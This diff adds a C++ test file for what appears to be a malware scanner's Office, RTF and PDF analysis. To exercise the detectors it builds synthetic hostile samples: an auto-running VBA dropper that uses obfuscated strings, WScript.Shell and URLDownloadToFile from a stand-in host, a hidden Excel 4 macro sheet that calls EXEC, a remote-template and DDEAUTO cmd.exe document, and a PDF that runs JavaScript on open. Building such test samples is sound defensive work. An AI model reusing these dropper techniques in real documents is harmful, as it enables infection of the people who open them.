@@ -1,0 +1,421 @@
+// Documents through featurize_office and the engine handler, on inputs built here: Word and Excel files with VBA
+// (tests/support/cfb_builder), OOXML packages written with libarchive, RTF objects and PDF keywords by hand, and
+// broken compound files (truncated, cyclic chains, oversized streams), each of which must get a verdict and
+// anomalies. The scoring tests use the shipped models/office and skip without it.
+#include <archive.h>
+#include <archive_entry.h>
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+#include <string>
+#include <vector>
+
+#include "engine/scanner.hpp"
+#include "features/office_features.hpp"
+#include "support/cfb_builder.hpp"
+
+namespace {
+
+using namespace mamori;
+using namespace mamori::test;
+
+std::vector<std::uint8_t> bytes_of(std::string_view s) { return {s.begin(), s.end()}; }
+
+float feature(const features::OfficeSample& s, std::string_view name) {
+  const auto& f = features::office_schema().features;
+  for (std::size_t i = 0; i < f.size(); ++i)
+    if (f[i].name == name) return s.x[i];
+  ADD_FAILURE() << "no feature " << name;
+  return -1;
+}
+
+features::OfficeSample featurize(const std::vector<std::uint8_t>& b) {
+  return features::featurize_office(ByteView(b.data(), b.size()));
+}
+
+bool has_anomaly(const std::vector<std::string>& a, std::string_view prefix) {
+  for (const auto& s : a)
+    if (s.rfind(prefix, 0) == 0) return true;
+  return false;
+}
+
+VbaSpec dropper_spec() {
+  VbaSpec v;
+  v.modules = {
+      {"ThisDocument",
+       "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n  Qxzvbrt\r\nEnd Sub\r\n",
+       std::vector<std::uint8_t>(700, 0xA5), false},
+      {"Module1",
+       "Attribute VB_Name = \"Module1\"\r\nSub Qxzvbrt()\r\n  Dim s As String\r\n"
+       "  s = Chr(99 + 0) & Chr(109) & \"d /c \" & StrReverse(\"exe.c/ptth\")\r\n"
+       "  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run s, 0\r\n"
+       "  URLDownloadToFile 0, \"http://example.invalid/x.exe\", Environ(\"TEMP\") & \"\\x.exe\", 0, 0\r\nEnd Sub\r\n",
+       std::vector<std::uint8_t>(1200, 0x5A), true},
+  };
+  return v;
+}
+
+std::vector<std::uint8_t> word_doc(const VbaSpec& v, CfbLayout* layout = nullptr) {
+  CfbSpec s;
+  s.streams = build_vba_streams(v);
+  std::vector<std::uint8_t> fib(5000, 0);
+  fib[0] = 0xEC;
+  fib[1] = 0xA5;
+  s.streams.push_back({"WordDocument", fib});
+  s.streams.push_back({"1Table", std::vector<std::uint8_t>(600, 0)});
+  return build_cfb(s, layout);
+}
+
+// A zip written by libarchive, entries in the given order.
+std::vector<std::uint8_t> zip_of(const std::vector<std::pair<std::string, std::string>>& parts) {
+  std::vector<std::uint8_t> out(1u << 20);
+  std::size_t used = 0;
+  archive* a = archive_write_new();
+  archive_write_set_format_zip(a);
+  archive_write_open_memory(a, out.data(), out.size(), &used);
+  for (const auto& [name, data] : parts) {
+    archive_entry* e = archive_entry_new();
+    archive_entry_set_pathname(e, name.c_str());
+    archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
+    archive_entry_set_filetype(e, AE_IFREG);
+    archive_entry_set_perm(e, 0644);
+    archive_write_header(a, e);
+    archive_write_data(a, data.data(), data.size());
+    archive_entry_free(e);
+  }
+  archive_write_close(a);
+  archive_write_free(a);
+  out.resize(used);
+  return out;
+}
+
+const char* kContentTypes =
+    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument."
+    "wordprocessingml.document.main+xml\"/></Types>";
+
+std::string hex(const std::vector<std::uint8_t>& b) {
+  static const char* d = "0123456789abcdef";
+  std::string s;
+  for (auto c : b) s += d[c >> 4], s += d[c & 15];
+  return s;
+}
+
+void put32(std::vector<std::uint8_t>& b, std::uint32_t v) {
+  for (int i = 0; i < 4; ++i) b.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
+}
+
+// The engine with the shipped models, or nullopt when models/office is not there.
+std::optional<engine::Scanner> scanner(engine::Options opt = {}) {
+  const std::string root = std::string(MAMORI_SOURCE_DIR) + "/models";
+  if (!std::filesystem::exists(root + "/office/meta.json")) return std::nullopt;
+  auto m = engine::load_models(root);
+  if (!m.ok()) {
+    ADD_FAILURE() << m.error().message;
+    return std::nullopt;
+  }
+  return engine::Scanner(std::move(m).value(), opt);
+}
+
+TEST(OfficeFeatures, WordMacroDropper) {
+  const auto doc = word_doc(dropper_spec());
+  const auto s = featurize(doc);
+  EXPECT_EQ(s.doc_type, "ole2-word");
+  EXPECT_TRUE(s.has_macros);
+  EXPECT_TRUE(s.autoexec);
+  EXPECT_TRUE(s.executes);
+  EXPECT_TRUE(features::office_baseline_rule(s.x));
+  EXPECT_EQ(feature(s, "doc.is_ole2_word"), 1.0f);
+  EXPECT_EQ(feature(s, "vba.modules"), 2.0f);
+  EXPECT_EQ(feature(s, "macro_kw.document_open"), 1.0f);
+  EXPECT_EQ(feature(s, "macro_kw.urldownloadtofile"), 1.0f);
+  EXPECT_EQ(feature(s, "macro_kw.strreverse"), 1.0f);
+  EXPECT_EQ(feature(s, "macro_str.wscript.shell"), 1.0f);
+  EXPECT_EQ(feature(s, "macro_obf.chr_calls"), 2.0f);
+  EXPECT_EQ(feature(s, "macro_obf.chr_arithmetic"), 1.0f);
+  EXPECT_GT(feature(s, "macro_obf.concat_amp_per_line"), 0.0f);
+  EXPECT_TRUE(std::isnan(feature(s, "pdf.obj")));  // groups of other formats are missing, not zero
+  // The matching lines, with module and line number.
+  bool auto_line = false, download_line = false;
+  for (const auto& h : s.hits) {
+    if (h.category == "autoexec" && h.where == "vba:ThisDocument:2") auto_line = h.text == "Private Sub Document_Open()";
+    if (h.category == "download") download_line = h.text.find("URLDownloadToFile") != std::string::npos;
+  }
+  EXPECT_TRUE(auto_line);
+  EXPECT_TRUE(download_line);
+  double sum = 0;
+  for (std::size_t i = 0; i < s.x.size(); ++i)
+    if (features::office_schema().features[i].group == "macro_bigrams") sum += s.x[i];
+  EXPECT_NEAR(sum, 1.0, 1e-3);  // bigram fractions of all tokens
+}
+
+TEST(OfficeFeatures, MacroFreeSpreadsheetIsNotTheRule) {
+  CfbSpec s;
+  // BOF, BOUNDSHEET8 (visible worksheet "S"), EOF.
+  const std::vector<std::uint8_t> wb = {0x09, 0x08, 4, 0, 0, 6, 5, 0, 0x85, 0, 9, 0, 0, 0, 0, 0, 0, 0, 1, 0, 'S',
+                                        0x0A, 0, 0, 0};
+  s.streams.push_back({"Workbook", wb});
+  const auto doc = build_cfb(s);
+  const auto f = featurize(doc);
+  EXPECT_EQ(f.doc_type, "ole2-excel");
+  EXPECT_FALSE(f.has_macros);
+  EXPECT_FALSE(features::office_baseline_rule(f.x));
+  EXPECT_EQ(feature(f, "xlm.sheets"), 1.0f);
+  EXPECT_EQ(feature(f, "xlm.macro_sheets"), 0.0f);
+}
+
+TEST(OfficeFeatures, Excel4MacroSheetInBiff) {
+  std::vector<std::uint8_t> wb;
+  auto rec = [&](std::uint16_t id, std::vector<std::uint8_t> body) {
+    wb.push_back(static_cast<std::uint8_t>(id));
+    wb.push_back(static_cast<std::uint8_t>(id >> 8));
+    wb.push_back(static_cast<std::uint8_t>(body.size()));
+    wb.push_back(static_cast<std::uint8_t>(body.size() >> 8));
+    wb.insert(wb.end(), body.begin(), body.end());
+  };
+  rec(0x0809, {0, 6, 5, 0});                                    // BOF globals
+  rec(0x0085, {0, 0, 0, 0, 2, 1, 1, 0, 'M'});                   // very hidden macro sheet "M"
+  rec(0x0018, {0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1});  // built-in name 0x01 = Auto_Open
+  rec(0x0809, {0, 6, 0x40, 0});                                 // BOF macro sheet
+  // FORMULA: cell + value + flags + chn (20 bytes), cce, rgce = ptgStr "calc" ptgFuncVar(1 arg, EXEC=110)
+  std::vector<std::uint8_t> f(20, 0);
+  const std::vector<std::uint8_t> rgce = {0x17, 4, 0, 'c', 'a', 'l', 'c', 0x42, 1, 110, 0};
+  f.push_back(static_cast<std::uint8_t>(rgce.size()));
+  f.push_back(0);
+  f.insert(f.end(), rgce.begin(), rgce.end());
+  rec(0x0006, f);
+  rec(0x000A, {});
+  CfbSpec s;
+  s.streams.push_back({"Workbook", wb});
+  const auto doc = build_cfb(s);
+  const auto x = featurize(doc);
+  EXPECT_TRUE(x.has_macros);
+  EXPECT_EQ(feature(x, "xlm.macro_sheets"), 1.0f);
+  EXPECT_EQ(feature(x, "xlm.very_hidden_sheets"), 1.0f);
+  EXPECT_EQ(feature(x, "xlm.auto_open_names"), 1.0f);
+  EXPECT_EQ(feature(x, "xlm.exec"), 1.0f);
+  EXPECT_TRUE(x.autoexec && x.executes);
+}
+
+TEST(OfficeFeatures, OoxmlRemoteTemplateAndDde) {
+  const std::string rels =
+      "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+      "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+      "attachedTemplate\" Target=\"http://example.invalid/t.dotm\" TargetMode=\"External\"/></Relationships>";
+  const std::string doc =
+      "<w:document xmlns:w=\"x\"><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+      "<w:r><w:instrText xml:space=\"preserve\"> DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\x\\\\cmd.exe "
+      "\"/k calc\"</w:instrText></w:r></w:p></w:body></w:document>";
+  const auto z = zip_of({{"[Content_Types].xml", kContentTypes},
+                         {"word/document.xml", doc},
+                         {"word/_rels/settings.xml.rels", rels},
+                         {"word/embeddings/oleObject1.bin", std::string("MZ") + std::string(100, 'x')}});
+  const auto s = featurize(z);
+  EXPECT_EQ(s.doc_type, "ooxml-word");
+  EXPECT_EQ(feature(s, "ooxml.remote_template"), 1.0f);
+  EXPECT_EQ(feature(s, "ooxml.external_http"), 1.0f);
+  EXPECT_EQ(feature(s, "ooxml.ddeauto_fields"), 1.0f);
+  EXPECT_EQ(feature(s, "ooxml.embedded_exe"), 1.0f);
+  EXPECT_EQ(feature(s, "ooxml.content_types"), 2.0f);
+  ASSERT_EQ(s.embedded.size(), 1u);
+  EXPECT_EQ(s.embedded[0].name, "word/embeddings/oleObject1.bin");
+  bool tmpl = false, dde = false;
+  for (const auto& h : s.hits) {
+    tmpl |= h.category == "remote-template" && h.text.find("http://example.invalid/t.dotm") != std::string::npos;
+    dde |= h.category == "dde";
+  }
+  EXPECT_TRUE(tmpl);
+  EXPECT_TRUE(dde);
+}
+
+TEST(OfficeFeatures, OoxmlVbaProjectIsAnalysed) {
+  CfbSpec s;
+  VbaSpec v = dropper_spec();
+  v.storage = "VBA";
+  s.streams = build_vba_streams(v);
+  const auto bin = build_cfb(s);
+  const auto z = zip_of({{"[Content_Types].xml", kContentTypes},
+                         {"word/document.xml", "<w:document/>"},
+                         {"word/vbaProject.bin", std::string(bin.begin(), bin.end())}});
+  const auto f = featurize(z);
+  EXPECT_EQ(feature(f, "ooxml.vba_project"), 1.0f);
+  EXPECT_EQ(feature(f, "vba.modules"), 2.0f);
+  EXPECT_TRUE(features::office_baseline_rule(f.x));
+}
+
+TEST(OfficeFeatures, RtfEquationObject) {
+  std::vector<std::uint8_t> ole1;
+  put32(ole1, 0x0501);
+  put32(ole1, 2);
+  const std::string cls = "Equation.3";
+  put32(ole1, static_cast<std::uint32_t>(cls.size() + 1));
+  ole1.insert(ole1.end(), cls.begin(), cls.end());
+  ole1.push_back(0);
+  put32(ole1, 0);
+  put32(ole1, 0);
+  const std::vector<std::uint8_t> native = bytes_of("\xD0\xCF\x11\xE0payload");
+  put32(ole1, static_cast<std::uint32_t>(native.size()));
+  ole1.insert(ole1.end(), native.begin(), native.end());
+  std::string h = hex(ole1);
+  h.insert(10, "\r\n ");  // whitespace inside the hex is legal and common
+  const std::string rtf = "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + h + "}}}";
+  const auto s = featurize(bytes_of(rtf));
+  EXPECT_EQ(s.doc_type, "rtf");
+  EXPECT_EQ(feature(s, "rtf.objects"), 1.0f);
+  EXPECT_EQ(feature(s, "rtf.objupdate"), 1.0f);
+  EXPECT_EQ(feature(s, "rtf.class_equation"), 1.0f);
+  EXPECT_EQ(feature(s, "rtf.embedded_ole2"), 1.0f);
+  EXPECT_EQ(feature(s, "rtf.header_nonstandard"), 0.0f);
+  ASSERT_EQ(s.embedded.size(), 1u);
+  EXPECT_EQ(s.embedded[0].bytes, native);
+}
+
+TEST(OfficeFeatures, RtfUnbalancedAndOddHex) {
+  const auto s = featurize(bytes_of("{\\rtf{\\object{\\*\\objdata 0102030}"));
+  EXPECT_TRUE(has_anomaly(s.anomalies, "rtf_unbalanced_groups"));
+  EXPECT_TRUE(has_anomaly(s.anomalies, "rtf_objdata_odd_hex_digits"));
+  EXPECT_TRUE(has_anomaly(s.anomalies, "rtf_header_nonstandard"));
+}
+
+TEST(OfficeFeatures, PdfKeywordsAndEscapedNames) {
+  const std::string pdf =
+      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R /Names << /J#61vaScript 3 0 R >> >>\nendobj\n"
+      "2 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\nxref\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n"
+      "%%EOF\ngarbage";
+  const auto s = featurize(bytes_of(pdf));
+  EXPECT_EQ(s.doc_type, "pdf");
+  EXPECT_EQ(feature(s, "pdf.obj"), 2.0f);
+  EXPECT_EQ(feature(s, "pdf.endobj"), 2.0f);
+  EXPECT_EQ(feature(s, "pdf.JavaScript"), 2.0f);
+  EXPECT_EQ(feature(s, "pdf.JS"), 1.0f);
+  EXPECT_EQ(feature(s, "pdf.OpenAction"), 1.0f);
+  EXPECT_EQ(feature(s, "pdf.obfuscated_names"), 1.0f);
+  EXPECT_EQ(feature(s, "pdf.after_eof"), 7.0f);
+}
+
+TEST(OfficeFeatures, EncryptedPackageNotOpenedByDefaultPassword) {
+  // Agile descriptor whose encrypted key does not come from "VelvetSweatshop": reported, not decrypted.
+  std::vector<std::uint8_t> info = {4, 0, 4, 0, 0x40, 0, 0, 0};
+  const std::string xml =
+      "<?xml version=\"1.0\"?><encryption><keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" "
+      "cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\" "
+      "saltValue=\"AAECAwQFBgcICQoLDA0ODw==\"/><keyEncryptors><keyEncryptor><p:encryptedKey spinCount=\"1000\" "
+      "saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" hashAlgorithm=\"SHA512\" "
+      "saltValue=\"AAECAwQFBgcICQoLDA0ODw==\" encryptedKeyValue=\"AAECAwQFBgcICQoLDA0ODwABAgMEBQYHCAkKCwwNDg8=\"/>"
+      "</keyEncryptor></keyEncryptors></encryption>";
+  info.insert(info.end(), xml.begin(), xml.end());
+  std::vector<std::uint8_t> pkg(8 + 4096, 0x11);
+  pkg[0] = 0x00;
+  pkg[1] = 0x10;
+  for (int i = 2; i < 8; ++i) pkg[static_cast<std::size_t>(i)] = 0;
+  CfbSpec s;
+  s.streams = {{"EncryptionInfo", info}, {"EncryptedPackage", pkg}};
+  const auto doc = build_cfb(s);
+  const auto f = featurize(doc);
+  EXPECT_EQ(f.doc_type, "ole2-encrypted-package");
+  EXPECT_EQ(f.encryption, "ooxml-agile");
+  EXPECT_FALSE(f.decrypted);
+  EXPECT_EQ(feature(f, "encryption.encrypted"), 1.0f);
+  EXPECT_EQ(feature(f, "encryption.decrypted"), 0.0f);
+
+  // Through the engine: suspicious by default, only reported when the option is off.
+  engine::Options opt;
+  engine::Scanner plain(std::optional<model::Model>{}, opt);
+  auto r = plain.scan_bytes(ByteView(doc.data(), doc.size()), "enc.xlsx");
+  EXPECT_EQ(r.verdict, engine::Verdict::suspicious);
+  EXPECT_EQ(r.signature, "Mamori.Office.Encrypted");
+  EXPECT_TRUE(has_anomaly(r.anomalies, "encrypted_not_decrypted"));
+  opt.encrypted_documents_are_suspicious = false;
+  engine::Scanner lenient(std::optional<model::Model>{}, opt);
+  r = lenient.scan_bytes(ByteView(doc.data(), doc.size()), "enc.xlsx");
+  EXPECT_FALSE(r.found());
+  EXPECT_TRUE(has_anomaly(r.anomalies, "encrypted_not_decrypted"));
+}
+
+TEST(OfficeHandler, EmbeddedObjectsAreScannedAsMembers) {
+  const auto inner = word_doc(dropper_spec());
+  const auto z2 = zip_of({{"[Content_Types].xml", kContentTypes},
+                          {"word/document.xml", "<w:document/>"},
+                          {"word/embeddings/oleObject1.bin", std::string(inner.begin(), inner.end())}});
+  engine::Scanner s(std::optional<model::Model>{}, engine::Options{});
+  const auto r = s.scan_bytes(ByteView(z2.data(), z2.size()), "outer.docx");
+  ASSERT_EQ(r.members.size(), 1u);
+  EXPECT_EQ(r.members[0].path, "outer.docx!word/embeddings/oleObject1.bin");
+  EXPECT_EQ(r.members[0].type.kind, engine::FileKind::ole2);
+  bool code_line = false;
+  for (const auto& [k, v] : r.members[0].context) code_line |= k.rfind("download vba:Module1:", 0) == 0;
+  EXPECT_TRUE(code_line);
+}
+
+// Broken compound files: every one gets a verdict (scored by the shipped model) and anomalies, never a crash.
+TEST(OfficeHandler, TruncatedCyclicAndOversizedStructures) {
+  auto eng = scanner();
+  if (!eng) GTEST_SKIP() << "models/office not present";
+  CfbLayout L;
+  const auto good = word_doc(dropper_spec(), &L);
+  std::vector<std::vector<std::uint8_t>> cases;
+  cases.push_back(std::vector<std::uint8_t>(good.begin(), good.begin() + static_cast<std::ptrdiff_t>(good.size() / 2)));
+  {
+    auto b = good;  // a FAT chain that loops back on itself
+    const std::uint32_t s0 = L.start_sector.at("WordDocument");
+    put_u32(b, L.fat_entry_offset(s0 + 2), s0);
+    cases.push_back(b);
+  }
+  {
+    auto b = good;  // a stream claiming far more than the file holds
+    put_u32(b, L.dir_entry_offset(L.entry_index.at("WordDocument")) + 120, 0x7FFFFFF0);
+    cases.push_back(b);
+  }
+  {
+    auto b = good;  // a directory tree whose sibling points back at itself
+    const auto idx = L.entry_index.at("1Table");
+    put_u32(b, L.dir_entry_offset(idx) + 68, idx);
+    cases.push_back(b);
+  }
+  for (std::size_t i = 0; i < cases.size(); ++i) {
+    const auto r = eng->scan_bytes(ByteView(cases[i].data(), cases[i].size()), "case" + std::to_string(i) + ".doc");
+    EXPECT_TRUE(r.verdict == engine::Verdict::clean || r.verdict == engine::Verdict::suspicious ||
+                r.verdict == engine::Verdict::malicious)
+        << i << " " << engine::verdict_name(r.verdict);
+    EXPECT_TRUE(r.score.has_value()) << i;
+    EXPECT_FALSE(r.anomalies.empty()) << i;
+  }
+}
+
+TEST(OfficeHandler, MacroDocumentIsExplained) {
+  auto eng = scanner();
+  if (!eng) GTEST_SKIP() << "models/office not present";
+  const auto doc = word_doc(dropper_spec());
+  const auto r = eng->scan_bytes(ByteView(doc.data(), doc.size()), "dropper.doc");
+  ASSERT_TRUE(r.score.has_value());
+  EXPECT_EQ(r.model, "mamori-office");
+  EXPECT_TRUE(r.found()) << *r.score;
+  EXPECT_FALSE(r.reasons.empty());
+  bool line = false;
+  for (const auto& [k, v] : r.context) line |= v.find("CreateObject(\"WScript.Shell\")") != std::string::npos;
+  EXPECT_TRUE(line);
+}
+
+TEST(OfficeFeatures, SchemaDocIsGenerated) {
+  std::ifstream in(std::string(MAMORI_SOURCE_DIR) + "/docs/office-features.md");
+  std::stringstream ss;
+  ss << in.rdbuf();
+  EXPECT_EQ(ss.str(), features::office_schema_markdown())
+      << "regenerate with: build/mamori features --kind office --markdown > docs/office-features.md";
+}
+
+TEST(OfficeFeatures, GarbageNeverThrows) {
+  std::vector<std::uint8_t> b = bytes_of("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1");
+  b.resize(600, 0xFF);
+  auto s = featurize(b);
+  EXPECT_EQ(s.x.size(), features::office_schema().features.size());
+  EXPECT_FALSE(s.anomalies.empty());
+  const auto z = bytes_of("PK\x03\x04 not really a zip [Content_Types].xml word/");
+  s = featurize(z);
+  EXPECT_EQ(s.x.size(), features::office_schema().features.size());
+}
+
+}  // namespace
